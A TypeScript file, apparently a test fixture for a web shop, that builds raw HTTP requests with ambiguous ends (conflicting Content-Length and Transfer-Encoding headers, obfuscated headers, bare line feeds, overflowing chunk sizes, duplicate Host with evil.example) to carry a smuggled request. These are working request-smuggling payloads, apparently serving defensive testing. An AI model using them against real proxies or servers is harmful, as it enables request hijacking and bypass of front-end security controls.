const host = 'Host: 127.0.0.1\r\n'
const form = 'Content-Type: application/json\r\n'
const post = `POST /api/user/login HTTP/1.1\r\n${host}${form}`

/**
 * Requests whose end is unclear: a proxy and the shop could see the end at different bytes. In most of them, the
 * smuggled request follows the end that one of the two sees.
 */
export function unclearRequests(smuggled: string): Record<string, string> {
  return {
    'Content-Length before Transfer-Encoding': `${post}Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${smuggled}`,
    'Transfer-Encoding before Content-Length': `${post}Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n${smuggled}`,
    'two Content-Length headers': `${post}Content-Length: 2\r\nContent-Length: ${smuggled.length}\r\n\r\n{}${smuggled}`,
    'a list as Content-Length': `${post}Content-Length: 2, 2\r\n\r\n{}${smuggled}`,
    'a Content-Length with a sign': `${post}Content-Length: +2\r\n\r\n{}${smuggled}`,
    'a blank after the name Transfer-Encoding': `${post}Content-Length: 2\r\nTransfer-Encoding : chunked\r\n\r\n{}${smuggled}`,
    'a list as Transfer-Encoding': `${post}Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n${smuggled}`,
    'a vertical tab before the value of Transfer-Encoding': `${post}Transfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n${smuggled}`,
    'a header folded over two lines': `${post}X-A: b\r\n Transfer-Encoding: chunked\r\n: x\r\n\r\n${smuggled}`,
    'bare line feeds': `POST /api/user/login HTTP/1.1\nHost: 127.0.0.1\nContent-Length: 2\n\n{}${smuggled}`,
    'a chunk extension with a line feed': `${post}Transfer-Encoding: chunked\r\n\r\n2;\n{}\r\n0\r\n\r\n${smuggled}`,
    'a chunk size that overflows': `${post}Transfer-Encoding: chunked\r\n\r\nfffffffffffffffff\r\n{}\r\n0\r\n\r\n${smuggled}`,
    'two hosts': `GET /about HTTP/1.1\r\n${host}Host: evil.example\r\n\r\n`,
    'no host': 'GET /about HTTP/1.1\r\n\r\n',
    'a null character in a header': `GET /about HTTP/1.1\r\n${host}X-A: \0\r\n\r\n`,
  }
}
